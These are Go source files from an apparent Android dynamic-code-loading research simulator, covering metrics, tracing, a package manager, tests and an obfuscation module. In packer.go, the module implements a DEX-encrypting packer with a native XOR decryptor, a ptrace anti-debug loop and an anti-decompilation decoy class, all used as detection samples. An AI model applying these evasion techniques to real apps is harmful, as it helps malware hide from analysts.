const DefaultSampleInterval = 5 * time.Second

// StartRuntimeSampler periodically samples the Go runtime into gauges on
// reg — goroutine count, heap occupancy, GC cycles and total GC pause —
// so the daemon's own health shows up next to the fleet aggregates in
// /v1/metricz and the dashboard. It samples once immediately, then every
// interval until ctx is cancelled or the returned stop function runs.
//
// Gauges: runtime.goroutines, runtime.heap_alloc_bytes,
// runtime.heap_objects, runtime.gc_cycles, runtime.gc_pause_total_ns.
func StartRuntimeSampler(ctx context.Context, reg *metrics.Registry, interval time.Duration) (stop func()) {
	if interval <= 0 {
		interval = DefaultSampleInterval
	}
	ctx, cancel := context.WithCancel(ctx)
	SampleRuntime(reg)
	go func() {
		t := time.NewTicker(interval)
		defer t.Stop()
		for {
			select {
			case <-ctx.Done():
				return
			case <-t.C:
				SampleRuntime(reg)
			}
		}
	}()
	return cancel
}

// SampleRuntime takes one runtime sample into reg's gauges.
func SampleRuntime(reg *metrics.Registry) {
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	reg.SetGauge("runtime.goroutines", int64(runtime.NumGoroutine()))
	reg.SetGauge("runtime.heap_alloc_bytes", int64(ms.HeapAlloc))
	reg.SetGauge("runtime.heap_objects", int64(ms.HeapObjects))
	reg.SetGauge("runtime.gc_cycles", int64(ms.NumGC))
	reg.SetGauge("runtime.gc_pause_total_ns", int64(ms.PauseTotalNs))
}
