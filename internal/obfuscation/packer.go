package obfuscation

import (
	"fmt"

	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/nativebin"
)

// Packer artifact names.
const (
	// StubAppClass is the injected Application container (android:name).
	StubAppClass = "com.shell.StubApp"
	// PayloadAsset is the encrypted original classes.dex inside assets/.
	PayloadAsset = "payload.enc"
	// ShellLib is the native decryptor library.
	ShellLib = "libshell.so"
)

// PackOption configures Pack.
type PackOption func(*packConfig)

type packConfig struct {
	antiDebug bool
}

// WithAntiDebug adds the anti-dynamic-analysis trick the paper observed in
// one packed sample: before decryption, the container ptrace-attaches to
// its own process in a loop so external debuggers cannot (only one tracer
// may attach).
func WithAntiDebug() PackOption {
	return func(c *packConfig) { c.antiDebug = true }
}

// Pack applies Bangcle/Ijiami-style DEX encryption (paper §III-D): the
// original classes.dex is XOR-keystream-encrypted into an asset, a stub
// classes.dex containing only the container Application subclass replaces
// it, and a native decryptor library is bundled. At process start the
// container (run before any component because it is the android:name
// class) loads the native library via JNI, decrypts the payload into the
// app's private cache, and creates a DexClassLoader over it — after which
// the original components resolve normally. Static analysis of the
// shipped classes.dex sees none of the original code.
func Pack(a *apk.APK, key byte, opts ...PackOption) (*apk.APK, error) {
	if a.Dex == nil {
		return nil, fmt.Errorf("obfuscation: pack: app has no classes.dex")
	}
	if key == 0 {
		return nil, fmt.Errorf("obfuscation: pack: key must be non-zero")
	}
	var cfg packConfig
	for _, opt := range opts {
		opt(&cfg)
	}
	pkg := a.Manifest.Package
	enc := make([]byte, len(a.Dex))
	for i, b := range a.Dex {
		enc[i] = b ^ key
	}

	srcPath := "/data/data/" + pkg + "/assets/" + PayloadAsset
	dstPath := "/data/data/" + pkg + "/cache/app.dex"
	odexDir := "/data/data/" + pkg + "/cache/odex"

	stub, err := buildStubDex(srcPath, dstPath, odexDir, key, cfg.antiDebug)
	if err != nil {
		return nil, err
	}
	decryptor, err := nativebin.Encode(buildDecryptorLib(cfg.antiDebug))
	if err != nil {
		return nil, fmt.Errorf("obfuscation: pack: %w", err)
	}

	out := a.Clone()
	out.Dex = stub
	out.Manifest.Application.Name = StubAppClass
	if out.Assets == nil {
		out.Assets = make(map[string][]byte)
	}
	out.Assets[PayloadAsset] = enc
	if out.NativeLibs == nil {
		out.NativeLibs = make(map[string][]byte)
	}
	out.NativeLibs[ShellLib] = decryptor
	return out, nil
}

// buildStubDex emits the container class: onCreate loads the shell
// library, calls the native decrypt(src, dst, key), and constructs a
// DexClassLoader over the decrypted payload.
func buildStubDex(srcPath, dstPath, odexDir string, key byte, antiDebug bool) ([]byte, error) {
	b := dex.NewBuilder()
	cls := b.Class(StubAppClass, "android.app.Application")
	cls.NativeMethod("decrypt", "I", "Ljava/lang/String;", "Ljava/lang/String;", "I")
	if antiDebug {
		cls.NativeMethod("guard", "I", "Ljava/lang/String;")
	}
	m := cls.Method("onCreate", dex.ACCPublic, 8, "V")
	m.ConstString(1, "shell").
		InvokeStatic(dex.MethodRef{Class: "java.lang.System", Name: "loadLibrary",
			Sig: "(Ljava/lang/String;)V"}, 1)
	if antiDebug {
		m.InvokeVirtual(dex.MethodRef{Class: "android.content.Context",
			Name: "getPackageName", Sig: "()Ljava/lang/String;"}, 0).
			MoveResult(2).
			InvokeVirtual(dex.MethodRef{Class: StubAppClass, Name: "guard",
				Sig: "(Ljava/lang/String;)I"}, 0, 2)
	}
	m.ConstString(2, srcPath).
		ConstString(3, dstPath).
		Const(4, int64(key)).
		InvokeVirtual(dex.MethodRef{Class: StubAppClass, Name: "decrypt",
			Sig: "(Ljava/lang/String;Ljava/lang/String;I)I"}, 0, 2, 3, 4).
		MoveResult(5).
		IfNez(5, "fail").
		ConstString(6, odexDir).
		NewInstance(7, "dalvik.system.DexClassLoader").
		InvokeDirect(dex.MethodRef{Class: "dalvik.system.DexClassLoader", Name: "<init>",
			Sig: "(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/ClassLoader;)V"},
			7, 3, 6, 0, 0).
		Label("fail").
		ReturnVoid().
		Done()
	return dex.Encode(b.File())
}

// decryptBufAddr is the scratch buffer the decryptor streams chunks
// through; it sits far above the JNI marshaling heap.
const decryptBufAddr = 0x30000

// buildDecryptorLib emits the native decryptor:
// Java_com_shell_StubApp_decrypt(srcPtr, dstPtr, key) reads the encrypted
// asset in chunks, XORs each byte with the key, and writes the plaintext
// DEX — a faithful miniature of the packers' native-layer decryption
// (paper: "the job of decryption is normally implemented in native code
// for the sake of security").
func buildDecryptorLib(antiDebug bool) *nativebin.Library {
	b := nativebin.NewBuilder(ShellLib, "arm")
	b.Symbol("JNI_OnLoad").MovI(0, 0).Ret()
	if antiDebug {
		// guard(pkgPtr): ptrace-attach to our own process three times so no
		// external tracer can.
		b.Symbol("Java_com_shell_StubApp_guard").
			MovR(5, 0). // pkg ptr
			MovI(6, 0). // counter
			Label("g").
			CmpI(6, 3).
			Bge("gdone").
			MovR(0, 5).
			Svc(nativebin.SysFindProc).
			CmpI(0, 0).
			Blt("gdone").
			Svc(nativebin.SysPtrace).
			AddI(6, 6, 1).
			B("g").
			Label("gdone").
			MovI(0, 0).
			Ret()
	}
	b.Symbol("Java_com_shell_StubApp_decrypt").
		MovR(5, 1). // r5 = dst path ptr
		MovR(6, 2). // r6 = key
		// open(src, read)
		MovI(1, 0).
		Svc(nativebin.SysOpen).
		MovR(7, 0). // r7 = src fd
		CmpI(7, 0).
		Blt("error").
		// open(dst, create)
		MovR(0, 5).
		MovI(1, 1).
		Svc(nativebin.SysOpen).
		MovR(8, 0). // r8 = dst fd
		CmpI(8, 0).
		Blt("error").
		Label("rloop").
		// n = read(src, buf, 256)
		MovR(0, 7).
		MovI(1, decryptBufAddr).
		MovI(2, 256).
		Svc(nativebin.SysRead).
		CmpI(0, 0).
		Beq("wdone").
		Blt("error").
		MovR(9, 0). // r9 = n
		// xor loop
		MovI(3, 0).
		Label("xloop").
		Cmp(3, 9).
		Bge("xdone").
		MovI(4, decryptBufAddr).
		Add(4, 4, 3).
		Ldrb(10, 4, 0).
		Xor(10, 10, 6).
		Strb(10, 4, 0).
		AddI(3, 3, 1).
		B("xloop").
		Label("xdone").
		// write(dst, buf, n)
		MovR(0, 8).
		MovI(1, decryptBufAddr).
		MovR(2, 9).
		Svc(nativebin.SysWrite).
		B("rloop").
		Label("wdone").
		MovR(0, 7).
		Svc(nativebin.SysClose).
		MovR(0, 8).
		Svc(nativebin.SysClose).
		MovI(0, 0).
		Ret().
		Label("error").
		MovI(0, 1).
		Ret()
	return b.Build()
}

// AddAntiDecompilation inserts a hostile decoy class whose simple name is
// not a valid Java identifier: Dalvik loads the file, old decompilers
// crash on it (Table VI's anti-decompilation row). The input is not
// modified.
func AddAntiDecompilation(a *apk.APK) (*apk.APK, error) {
	if a.Dex == nil {
		return nil, fmt.Errorf("obfuscation: anti-decompilation: app has no classes.dex")
	}
	df, err := dex.Decode(a.Dex)
	if err != nil {
		return nil, fmt.Errorf("obfuscation: anti-decompilation: %w", err)
	}
	df.Classes = append(df.Classes, &dex.Class{
		Name:  a.Manifest.Package + ".0decoy",
		Super: "java.lang.Object",
		Flags: dex.ACCPublic | dex.ACCSynthetic,
	})
	encoded, err := dex.Encode(df)
	if err != nil {
		return nil, fmt.Errorf("obfuscation: anti-decompilation: %w", err)
	}
	out := a.Clone()
	out.Dex = encoded
	return out, nil
}
