package dydroid_test

import (
	"testing"

	"github.com/dydroid/dydroid"
)

// TestPublicAPIEndToEnd drives the whole system through the public facade
// exactly as the README shows: generate a marketplace, train the
// detector, analyze apps, and check that the headline findings of the
// paper are recoverable through the exported surface alone.
func TestPublicAPIEndToEnd(t *testing.T) {
	store, err := dydroid.GenerateStore(dydroid.StoreConfig{Seed: 5, Scale: 0.002})
	if err != nil {
		t.Fatal(err)
	}
	if len(store.Apps) == 0 {
		t.Fatal("empty store")
	}
	classifier, err := store.TrainingSet(2)
	if err != nil {
		t.Fatal(err)
	}
	analyzer := dydroid.NewAnalyzer(dydroid.Options{
		Seed:        9,
		Classifier:  classifier,
		Network:     store.Network,
		SetupDevice: store.SetupDevice,
	})

	var sawThirdParty, sawRemote, sawMalware, sawVuln, sawPacked bool
	for _, app := range store.Apps {
		apkBytes, err := store.BuildAPK(app)
		if err != nil {
			t.Fatalf("%s: %v", app.Spec.Pkg, err)
		}
		res, err := analyzer.AnalyzeAPK(apkBytes)
		if err != nil {
			t.Fatalf("%s: %v", app.Spec.Pkg, err)
		}
		for _, ev := range res.Events {
			if ev.Entity == dydroid.EntityThirdParty {
				sawThirdParty = true
			}
			if ev.Provenance == dydroid.ProvenanceRemote {
				sawRemote = true
			}
		}
		if len(res.Malware) > 0 {
			sawMalware = true
		}
		if len(res.Vulns) > 0 {
			sawVuln = true
		}
		if res.Obfuscation.DEXEncryption {
			sawPacked = true
		}
	}
	for name, saw := range map[string]bool{
		"third-party DCL": sawThirdParty,
		"remote fetch":    sawRemote,
		"malware":         sawMalware,
		"vulnerability":   sawVuln,
		"packer":          sawPacked,
	} {
		if !saw {
			t.Errorf("public API run never observed %s", name)
		}
	}
}

// TestPublicAPIBuildParse checks the APK helpers round-trip.
func TestPublicAPIBuildParse(t *testing.T) {
	a := &dydroid.APK{
		Manifest: dydroid.Manifest{Package: "com.api.demo", MinSDK: 16},
	}
	a.Manifest.Application.Activities = []dydroid.Component{{Name: "com.api.demo.Main", Main: true}}
	data, err := dydroid.BuildAPK(a)
	if err != nil {
		t.Fatal(err)
	}
	got, err := dydroid.ParseAPK(data)
	if err != nil {
		t.Fatal(err)
	}
	if got.Manifest.Package != "com.api.demo" {
		t.Fatalf("package = %q", got.Manifest.Package)
	}
}

// TestRunExperimentsSmoke exercises the experiment facade.
func TestRunExperimentsSmoke(t *testing.T) {
	res, err := dydroid.RunExperiments(dydroid.ExperimentConfig{
		Seed: 3, Scale: 0.002, Workers: 2,
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Records) == 0 || len(res.Report()) < 1000 {
		t.Fatal("experiment output too small")
	}
}
