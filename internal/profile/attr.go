package profile

import (
	runtimemetrics "runtime/metrics"

	"github.com/dydroid/dydroid/internal/trace"
)

// Span attribute keys the meter stamps; telemetry parses the same keys
// into the cost-per-stage table.
const (
	AttrCPUNS        = "cpu.ns"
	AttrAllocBytes   = "alloc.bytes"
	AttrAllocObjects = "alloc.objects"
)

// MeterSpan starts resource attribution for one pipeline stage span and
// returns the stop function that stamps cpu.ns / alloc.bytes /
// alloc.objects attrs with the deltas observed in between. Call stop
// before ending the span, on every exit path; extra calls are no-ops.
//
// The deltas are process-scoped (getrusage CPU time, runtime/metrics
// heap allocation totals): with one worker they are the stage's exact
// cost, under concurrency they are an upper bound that still ranks
// stages correctly in aggregate because every stage is measured the same
// way.
func MeterSpan(sp *trace.Span) (stop func()) {
	if sp == nil {
		return func() {}
	}
	startCPU := processCPUNanos()
	var start [2]runtimemetrics.Sample
	start[0].Name = "/gc/heap/allocs:bytes"
	start[1].Name = "/gc/heap/allocs:objects"
	runtimemetrics.Read(start[:])
	done := false
	return func() {
		if done {
			return
		}
		done = true
		var end [2]runtimemetrics.Sample
		end[0].Name = start[0].Name
		end[1].Name = start[1].Name
		runtimemetrics.Read(end[:])
		sp.SetIntAttr(AttrCPUNS, maxInt64(0, processCPUNanos()-startCPU))
		sp.SetIntAttr(AttrAllocBytes, int64(end[0].Value.Uint64()-start[0].Value.Uint64()))
		sp.SetIntAttr(AttrAllocObjects, int64(end[1].Value.Uint64()-start[1].Value.Uint64()))
	}
}
