package android

import (
	"fmt"
	"sort"
	"sync"

	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/dex"
)

// InstalledApp is one installed package.
type InstalledApp struct {
	Package string
	APK     *apk.APK
	DataDir string // /data/data/<pkg>/
	APKPath string // /data/app/<pkg>.apk
	// Decoded, when non-nil, is the pre-decoded form of APK.Dex supplied
	// by the installer's caller (the dexopt analogue): the VM boots from
	// it instead of decoding the bytecode again. It must match APK.Dex.
	Decoded *dex.File
}

// HasExternalWrite reports whether the app declares
// WRITE_EXTERNAL_STORAGE.
func (a *InstalledApp) HasExternalWrite() bool {
	return a.APK.Manifest.HasPermission(apk.WriteExternalStorage)
}

// PackageManager tracks installed applications.
type PackageManager struct {
	dev  *Device
	mu   sync.Mutex
	apps map[string]*InstalledApp
}

func newPackageManager(dev *Device) *PackageManager {
	return &PackageManager{dev: dev, apps: make(map[string]*InstalledApp)}
}

// Install registers the app, creates its data directory marker, copies the
// APK under /data/app/, and extracts native libraries into the app's
// private lib directory (as the real installer does), which is where
// loadLibrary() finds them.
func (pm *PackageManager) Install(a *apk.APK) (*InstalledApp, error) {
	return pm.InstallArchive(a, nil)
}

// InstallArchive is Install for callers that already hold the serialized
// form of a (the `adb install file.apk` analogue): the provided archive
// is stored under /data/app/ verbatim instead of re-encoding the package.
// archive must be the serialization of a; nil falls back to building it.
func (pm *PackageManager) InstallArchive(a *apk.APK, archive []byte) (*InstalledApp, error) {
	if err := a.Manifest.Validate(); err != nil {
		return nil, fmt.Errorf("android: install: %w", err)
	}
	pkg := a.Manifest.Package
	pm.mu.Lock()
	if _, exists := pm.apps[pkg]; exists {
		pm.mu.Unlock()
		return nil, fmt.Errorf("android: install: package %s already installed", pkg)
	}
	pm.mu.Unlock()

	app := &InstalledApp{
		Package: pkg,
		APK:     a,
		DataDir: InternalDir(pkg),
		APKPath: AppRoot + pkg + ".apk",
	}
	apkBytes := archive
	if apkBytes == nil {
		var err error
		apkBytes, err = apk.Build(a)
		if err != nil {
			return nil, fmt.Errorf("android: install %s: %w", pkg, err)
		}
	}
	st := pm.dev.Storage
	if err := st.WriteFile(app.APKPath, apkBytes, SystemOwner, false); err != nil {
		return nil, fmt.Errorf("android: install %s: %w", pkg, err)
	}
	if a.Dex != nil {
		// The installer keeps classes.dex accessible for the runtime.
		if err := st.WriteFile(app.DataDir+"base/classes.dex", a.Dex, SystemOwner, false); err != nil {
			return nil, fmt.Errorf("android: install %s: %w", pkg, err)
		}
	}
	for name, lib := range a.NativeLibs {
		if err := st.WriteFile(app.DataDir+"lib/"+name, lib, SystemOwner, false); err != nil {
			return nil, fmt.Errorf("android: install %s: %w", pkg, err)
		}
	}
	for name, content := range a.Assets {
		if err := st.WriteFile(app.DataDir+"assets/"+name, content, SystemOwner, false); err != nil {
			return nil, fmt.Errorf("android: install %s: %w", pkg, err)
		}
	}
	// Transfer ownership of the data dir contents to the app.
	pm.chownDir(app.DataDir, pkg)

	pm.mu.Lock()
	pm.apps[pkg] = app
	pm.mu.Unlock()
	return app, nil
}

func (pm *PackageManager) chownDir(prefix, owner string) {
	st := pm.dev.Storage
	st.mu.Lock()
	defer st.mu.Unlock()
	for p, f := range st.files {
		if len(p) >= len(prefix) && p[:len(prefix)] == prefix {
			f.Owner = owner
		}
	}
}

// Uninstall removes the app and its data.
func (pm *PackageManager) Uninstall(pkg string) error {
	pm.mu.Lock()
	app, ok := pm.apps[pkg]
	if !ok {
		pm.mu.Unlock()
		return fmt.Errorf("android: uninstall: %s not installed", pkg)
	}
	delete(pm.apps, pkg)
	pm.mu.Unlock()
	pm.dev.Storage.RemovePrefix(app.DataDir)
	_ = pm.dev.Storage.Delete(app.APKPath, SystemOwner)
	return nil
}

// Get returns the installed app, or nil.
func (pm *PackageManager) Get(pkg string) *InstalledApp {
	pm.mu.Lock()
	defer pm.mu.Unlock()
	return pm.apps[pkg]
}

// InstalledPackages lists installed package names, sorted — the
// usage-pattern privacy source of Table X.
func (pm *PackageManager) InstalledPackages() []string {
	pm.mu.Lock()
	defer pm.mu.Unlock()
	out := make([]string, 0, len(pm.apps))
	for pkg := range pm.apps {
		out = append(out, pkg)
	}
	sort.Strings(out)
	return out
}
