package trace

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"
)

func TestStartCreatesTraceAndNestsChildren(t *testing.T) {
	ctx := context.Background()
	if FromContext(ctx) != nil || ActiveSpan(ctx) != nil {
		t.Fatal("empty context should carry no trace")
	}
	ctx, root := Start(ctx, "app")
	tr := FromContext(ctx)
	if tr == nil || tr.Root != root {
		t.Fatal("Start on an empty context must create a trace rooted at the new span")
	}
	if len(tr.ID) != 16 {
		t.Fatalf("trace ID = %q, want 16 hex chars", tr.ID)
	}

	cctx, child := Start(ctx, "unpack")
	if FromContext(cctx) != tr {
		t.Fatal("child context must carry the same trace")
	}
	if ActiveSpan(cctx) != child {
		t.Fatal("child context must carry the child as active span")
	}
	_, grand := Start(cctx, "decode")
	grand.End()
	child.End()
	root.End()

	if len(root.Children) != 1 || root.Children[0] != child {
		t.Fatalf("root children = %v, want [unpack]", root.Children)
	}
	if len(child.Children) != 1 || child.Children[0].Name != "decode" {
		t.Fatal("grandchild must nest under the child span")
	}
	// A sibling started from the root context attaches to the root, not
	// the (ended) child.
	_, sib := Start(ctx, "static")
	sib.End()
	if len(root.Children) != 2 || root.Children[1].Name != "static" {
		t.Fatal("sibling must attach to the span active in its context")
	}
}

func TestSpanLifecycle(t *testing.T) {
	_, s := Start(context.Background(), "work")
	s.SetAttr("k", "v1")
	s.SetAttr("k", "v2") // replace, not append
	s.SetAttr("other", "x")
	s.AddEvent("dcl", A("kind", "dex"), A("entity", "own"))
	time.Sleep(time.Millisecond)
	s.EndErr(errors.New("boom"))
	end := s.EndAt
	s.End() // second End is a no-op
	if !s.EndAt.Equal(end) {
		t.Fatal("End after EndErr must not move the end time")
	}
	if s.Duration() <= 0 {
		t.Fatalf("duration = %v, want > 0", s.Duration())
	}
	if got := s.Attr("k"); got != "v2" {
		t.Fatalf("attr k = %q, want v2 (SetAttr must replace)", got)
	}
	if len(s.Attrs) != 2 {
		t.Fatalf("attrs = %v, want 2 entries", s.Attrs)
	}
	if s.Err != "boom" {
		t.Fatalf("err = %q, want boom", s.Err)
	}
	if len(s.Events) != 1 || s.Events[0].Name != "dcl" || len(s.Events[0].Attrs) != 2 {
		t.Fatalf("events = %+v, want one dcl event with 2 attrs", s.Events)
	}
}

func TestNilSpanIsSafe(t *testing.T) {
	var s *Span
	s.SetAttr("a", "b")
	s.AddEvent("x")
	s.End()
	s.EndErr(errors.New("e"))
	s.Walk(func(*Span) { t.Fatal("walk of nil span must not visit") })
	if s.Duration() != 0 || s.Attr("a") != "" {
		t.Fatal("nil span reads must be zero values")
	}
}

func TestWalkAndFind(t *testing.T) {
	ctx, root := Start(context.Background(), "app")
	actx, a := Start(ctx, "analyze")
	_, u := Start(actx, "unpack")
	u.End()
	_, d := Start(actx, "dynamic")
	d.End()
	a.End()
	root.End()

	var names []string
	root.Walk(func(s *Span) { names = append(names, s.Name) })
	want := []string{"app", "analyze", "unpack", "dynamic"}
	if fmt.Sprint(names) != fmt.Sprint(want) {
		t.Fatalf("walk order = %v, want %v", names, want)
	}
	if root.Find("dynamic") != d {
		t.Fatal("Find must locate nested spans")
	}
	if root.Find("missing") != nil {
		t.Fatal("Find of an absent name must return nil")
	}
}

func TestJSONLRoundTrip(t *testing.T) {
	mk := func(id, digest string) *Trace {
		tr := New("app", WithID(id), WithDigest(digest))
		_, c := Start(ContextWith(context.Background(), tr), "stage")
		c.SetAttr("k", "v")
		c.AddEvent("dcl", A("kind", "native"))
		c.EndErr(errors.New("stage failed"))
		tr.Root.End()
		return tr
	}
	t1, t2 := mk("aaaaaaaaaaaaaaaa", "ab12"), mk("bbbbbbbbbbbbbbbb", "cd34")

	var buf bytes.Buffer
	if err := EncodeJSONL(&buf, t1, nil, t2); err != nil {
		t.Fatal(err)
	}
	if got := strings.Count(buf.String(), "\n"); got != 2 {
		t.Fatalf("encoded %d lines, want 2 (nil skipped, one object per line)", got)
	}
	back, err := DecodeJSONL(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(back) != 2 {
		t.Fatalf("decoded %d traces, want 2", len(back))
	}
	got := back[0]
	if got.ID != "aaaaaaaaaaaaaaaa" || got.Digest != "ab12" {
		t.Fatalf("identity lost: %+v", got)
	}
	st := got.Root.Find("stage")
	if st == nil || st.Err != "stage failed" || st.Attr("k") != "v" || len(st.Events) != 1 {
		t.Fatalf("span tree lost detail: %+v", st)
	}
	if st.Duration() <= 0 || got.Root.Duration() < st.Duration() {
		t.Fatal("timings must survive the round trip")
	}
}

func TestDecodeJSONLRejectsGarbage(t *testing.T) {
	if _, err := DecodeJSONL(strings.NewReader("{\n!!!\n")); err == nil {
		t.Fatal("want error for malformed line")
	}
	if _, err := DecodeJSONL(strings.NewReader(`{"id":"x"}` + "\n")); err == nil {
		t.Fatal("want error for a trace without a root span")
	}
}

func TestRender(t *testing.T) {
	tr := New("app", WithID("deadbeefdeadbeef"), WithDigest("ab12"))
	ctx := ContextWith(context.Background(), tr)
	_, u := Start(ctx, "unpack")
	u.End()
	_, d := Start(ctx, "dynamic")
	d.SetAttr("events", "1")
	d.AddEvent("dcl", A("kind", "dex"), A("entity", "own"))
	d.EndErr(errors.New("crashed"))
	tr.Root.End()

	var buf bytes.Buffer
	Render(&buf, tr)
	out := buf.String()
	for _, want := range []string{
		"trace deadbeefdeadbeef", "digest ab12",
		"app", "  unpack", "  dynamic", "events=1",
		"· dcl kind=dex entity=own", "ERROR: crashed", "%",
	} {
		if !strings.Contains(out, want) {
			t.Fatalf("render output missing %q:\n%s", want, out)
		}
	}
	Render(&buf, nil) // must not panic
}

func TestConcurrentSpanUse(t *testing.T) {
	ctx, root := Start(context.Background(), "app")
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			_, s := Start(ctx, fmt.Sprintf("w%d", i))
			s.SetAttr("i", fmt.Sprint(i))
			s.AddEvent("tick")
			s.End()
			root.AddEvent("done")
		}(i)
	}
	wg.Wait()
	root.End()
	if len(root.Children) != 8 || len(root.Events) != 8 {
		t.Fatalf("children=%d events=%d, want 8/8", len(root.Children), len(root.Events))
	}
}

func TestParentRefRoundTrip(t *testing.T) {
	ref := ParentRef("abcd1234abcd1234", "ffee0011ffee0011")
	tr := New("scan")
	tr.Root.SetParent(ref)
	if got := tr.Root.Attr(AttrParentTrace); got != "abcd1234abcd1234" {
		t.Fatalf("parent.trace = %q", got)
	}
	if got := tr.Root.Attr(AttrParentSpan); got != "ffee0011ffee0011" {
		t.Fatalf("parent.span = %q", got)
	}
	// Malformed refs are ignored, never recorded half-parsed.
	for _, bad := range []string{"", "nocolon", ":leading", "trailing:"} {
		tr := New("scan")
		tr.Root.SetParent(bad)
		if tr.Root.Attr(AttrParentTrace) != "" || tr.Root.Attr(AttrParentSpan) != "" {
			t.Fatalf("ref %q recorded parent attrs", bad)
		}
	}
}

func TestIDFromDigest(t *testing.T) {
	if got := IDFromDigest("0123456789abcdef0123456789abcdef"); got != "0123456789abcdef" {
		t.Fatalf("IDFromDigest = %q", got)
	}
	if got := IDFromDigest("abc"); got != "abc" {
		t.Fatalf("short digest = %q", got)
	}
}

// TestGraftStitchesUnderMatchingSpan is the cross-process stitching
// contract: a remote tree whose root carries a parent.span reference is
// attached under exactly the span with that ID.
func TestGraftStitchesUnderMatchingSpan(t *testing.T) {
	route := New("route", WithID("r1"), WithDigest("ab12"))
	a1 := route.Root.child("attempt")
	a1.ID = NewID()
	a1.EndErr(errBoom{})
	a2 := route.Root.child("attempt")
	a2.ID = NewID()
	a2.End()
	route.Root.End()

	remote := New("scan")
	remote.Root.SetParent(ParentRef("r1", a2.ID))
	remote.Root.child("analyze").End()
	remote.Root.End()

	if !Graft(route, remote) {
		t.Fatal("Graft found no matching span")
	}
	if len(a2.Children) != 1 || a2.Children[0] != remote.Root {
		t.Fatalf("remote root not under the matching attempt: %+v", a2.Children)
	}
	if len(a1.Children) != 0 {
		t.Fatal("remote root grafted under the failed attempt")
	}
	// The stitched tree must survive the JSONL round trip with span IDs
	// and the grafted subtree intact.
	var buf strings.Builder
	if err := EncodeJSONL(&buf, route); err != nil {
		t.Fatal(err)
	}
	back, err := DecodeJSONL(strings.NewReader(buf.String()))
	if err != nil {
		t.Fatal(err)
	}
	if got := back[0].Root.Find("analyze"); got == nil {
		t.Fatal("grafted analyze span lost in round trip")
	}
	var ids []string
	back[0].Root.Walk(func(sp *Span) {
		if sp.ID != "" {
			ids = append(ids, sp.ID)
		}
	})
	if len(ids) != 2 {
		t.Fatalf("span IDs lost in round trip: %v", ids)
	}
}

// TestGraftFallsBackToRoot: a remote tree with no usable parent reference
// still lands in the stitched tree, under the root.
func TestGraftFallsBackToRoot(t *testing.T) {
	route := New("route")
	a := route.Root.child("attempt")
	a.ID = NewID()
	remote := New("scan")
	if Graft(route, remote) {
		t.Fatal("Graft reported a match without a parent ref")
	}
	last := route.Root.Children[len(route.Root.Children)-1]
	if last != remote.Root {
		t.Fatal("unreferenced remote root not appended under the route root")
	}
	if Graft(nil, remote) || Graft(route, nil) {
		t.Fatal("nil graft reported a match")
	}
}

type errBoom struct{}

func (errBoom) Error() string { return "boom" }
