package obfuscation

import (
	"strings"
	"testing"

	"github.com/dydroid/dydroid/internal/android"
	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/apktool"
	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/vm"
)

// plainApp builds a readable app with one activity writing a sentinel
// static field.
func plainApp(t *testing.T, pkg string) *apk.APK {
	t.Helper()
	b := dex.NewBuilder()
	act := b.Class(pkg+".MainActivity", "android.app.Activity")
	act.Field("downloadCount", "I", dex.ACCPrivate)
	m := act.Method("onCreate", dex.ACCPublic, 3, "V", "Landroid/os/Bundle;")
	m.Const(1, 42).
		SPut(1, dex.FieldRef{Class: pkg + ".MainActivity", Name: "marker", Type: "I"}).
		InvokeVirtual(dex.MethodRef{Class: pkg + ".MainActivity", Name: "loadSettings", Sig: "()V"}, 0).
		ReturnVoid().Done()
	act.Method("loadSettings", dex.ACCPublic, 2, "V").ReturnVoid().Done()
	helper := b.Class(pkg+".util.DownloadManager", "java.lang.Object")
	helper.Method("fetchUpdate", dex.ACCPublic, 2, "V").ReturnVoid().Done()
	dexBytes, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	return &apk.APK{
		Manifest: apk.Manifest{
			Package: pkg,
			MinSDK:  16,
			Application: apk.Application{
				Activities: []apk.Component{{Name: pkg + ".MainActivity", Main: true}},
			},
		},
		Dex: dexBytes,
	}
}

func analyze(t *testing.T, a *apk.APK) Report {
	t.Helper()
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	var d Detector
	rep, err := d.Analyze(data)
	if err != nil {
		t.Fatal(err)
	}
	return rep
}

func TestPlainAppCleanReport(t *testing.T) {
	rep := analyze(t, plainApp(t, "com.example.reader"))
	if rep.Lexical || rep.Reflection || rep.Native || rep.DEXEncryption || rep.AntiDecompile {
		t.Fatalf("plain app flagged: %+v", rep)
	}
	if rep.MeaningfulFraction < 0.8 {
		t.Fatalf("plain app meaningful fraction = %f", rep.MeaningfulFraction)
	}
}

func TestLexicalRenameDetected(t *testing.T) {
	a := plainApp(t, "com.example.reader")
	ob, err := LexicalRename(a)
	if err != nil {
		t.Fatal(err)
	}
	rep := analyze(t, ob)
	if !rep.Lexical {
		t.Fatalf("renamed app not detected: %+v", rep)
	}
	if rep.DEXEncryption || rep.AntiDecompile {
		t.Fatalf("renamed app wrongly flagged: %+v", rep)
	}
}

func TestLexicalRenamePreservesBehavior(t *testing.T) {
	a := plainApp(t, "com.example.reader")
	ob, err := LexicalRename(a)
	if err != nil {
		t.Fatal(err)
	}
	dev := android.NewDevice()
	app, err := dev.Packages.Install(ob)
	if err != nil {
		t.Fatal(err)
	}
	m, err := vm.New(dev, nil, app, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := m.LaunchApp(); err != nil {
		t.Fatalf("renamed app crashed: %v", err)
	}
	// The activity class was renamed but stayed launchable via manifest.
	df, err := dex.Decode(ob.Dex)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range df.Classes {
		if strings.Contains(c.Name, "MainActivity") || strings.Contains(c.Name, "DownloadManager") {
			t.Fatalf("original class name survived: %s", c.Name)
		}
	}
	if ob.Manifest.LaunchActivity() == a.Manifest.LaunchActivity() {
		t.Fatal("manifest activity not renamed")
	}
}

func TestRenameDeterministic(t *testing.T) {
